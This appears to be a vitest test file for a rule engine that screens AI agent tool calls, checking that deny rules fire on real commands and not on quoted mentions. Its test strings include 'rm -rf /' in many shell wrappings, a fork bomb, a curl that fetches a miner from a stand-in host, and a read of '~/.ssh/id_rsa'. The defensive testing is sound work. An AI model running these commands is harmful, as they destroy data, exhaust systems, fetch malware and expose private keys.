import { describe, expect, it } from 'vitest';
import type { ToolCall } from '../../src/core/call.ts';
import { contextOf, evaluate, fires, policyOf, shell } from './harness.ts';

const FORK_BOMB = 'match :\\(\\)\\s*\\{.*\\|.*&\\s*\\}\\s*;';

describe('data is not code', () => {
  const REGEX = 'match rm\\s+-rf\\s+/';
  it.each([
    'rm -rf /',
    'bash <<EOF\nrm -rf /\nEOF',
    'bash -c "rm -rf /"',
    'echo "rm -rf /" | sh',
    'eval "rm -rf /"',
    'psql <<EOF\nrm -rf /\nEOF',
    'git commit -m x; rm -rf /',
    'echo "$(rm -rf /)"',
    'xargs rm -rf /',
    'psql <<A; cat <<B > f\nrm -rf /\nA\nother\nB',
  ])('counts in %j', (command) => expect(fires(REGEX, command)).toBe(true));
  it.each([
    'echo "rm -rf /"',
    "git commit -m 'stop rm -rf / for good'",
    "git commit --message='stop rm -rf /'",
    'git commit -am "no rm -rf / any more"',
    'gh pr create --title x --body "runs rm -rf / no more"',
    "grep -rn 'rm -rf /' src",
    "cat > f.md <<'EOF'\nnever rm -rf / this\nEOF",
    'git commit -m "$(cat <<\'EOF\'\nwhy rm -rf / hurts\nEOF\n)"',
    'psql <<A; cat <<B > f\nselect 1\nA\nrm -rf / is text\nB',
  ])('is dropped in %j', (command) => expect(fires(REGEX, command)).toBe(false));
  it('drops nothing that a program acts on', () => {
    expect(fires('match coin\\.example', 'curl https://coin.example/miner')).toBe(true);
    expect(fires('match \\.ssh/', 'cat ~/.ssh/id_rsa')).toBe(true);
  });
});

describe('the seed’s fork bomb', () => {
  it('fires on itself, not on its mention', () => {
    const bomb = evaluate(policyOf({ t: FORK_BOMB }), shell(':(){ :|:& };:'));
    expect(bomb.verdict.decision).toBe('deny');
    expect(fires(FORK_BOMB, "echo ':(){ :|:& };:'")).toBe(false);
  });
});

describe('each kind of call has its own subject', () => {
  const context = contextOf();
  const calls: Readonly<Record<string, ToolCall>> = {
    shell: { kind: 'shell', context, command: 'echo x; needle' },
    read: { kind: 'read', context, paths: ['/a/needle'] },
    search: { kind: 'search', context, paths: ['/a'], globs: ['needle*'], pattern: 'x' },
    write: { kind: 'write', context, changes: [{ kind: 'write', path: '/a/needle', content: 'x' }] },
    fetch: { kind: 'fetch', context, urls: ['https://needle.example/'], text: '' },
    'web-search': { kind: 'web-search', context, query: 'a needle' },
    agent: { kind: 'agent', context, prompt: 'find the needle' },
    mcp: { kind: 'mcp', context, server: 's', tool: 't', params: { a: { b: ['needle'] } }, launch: null },
    other: { kind: 'other', context, params: { x: 'needle' } },
  };
  it.each(Object.keys(calls))('%s', (kind) =>
    expect(fires('match needle', calls[kind] as ToolCall)).toBe(true),
  );
  it('content is seen by match_content alone', () => {
    const call: ToolCall = {
      kind: 'write',
      context,
      changes: [{ kind: 'write', path: '/a', content: 'a needle' }],
    };
    expect(fires('match needle', call)).toBe(false);
    expect(fires('match_content needle', call)).toBe(true);
    expect(fires('match_path needle', call)).toBe(false);
  });
  it('a shell-like parameter is a command', () => {
    const call: ToolCall = {
      kind: 'mcp',
      context,
      server: 's',
      tool: 'run',
      params: { command: 'echo needle' },
      launch: null,
    };
    expect(fires('match_command echo\\s+x', call)).toBe(false);
    expect(fires('match ^echo', call)).toBe(true);
  });
});

describe('regex beside matchers', () => {
  it('sees the same command, written or resolved', () => {
    expect(fires('command("rm") and matches(/-rf \\/$/)', "r''m -r'f' /")).toBe(true);
    expect(fires('command("rm") and matches(/-rf/)', 'rm x; echo -rf')).toBe(false);
  });
  it('an exception by regex holds for the command, not for the line', () => {
    const rule = 'match command("rm")\nunless matches(/--dry-run/)';
    expect(fires(rule, 'rm --dry-run x')).toBe(false);
    expect(fires(rule, 'rm x; echo --dry-run')).toBe(true);
  });
  it('an exception by matcher spares a regex hit inside its command', () => {
    const rule = 'match needle\nunless command("ls")';
    expect(fires(rule, 'ls needle')).toBe(false);
    expect(fires(rule, 'ls x; needle')).toBe(true);
  });
});
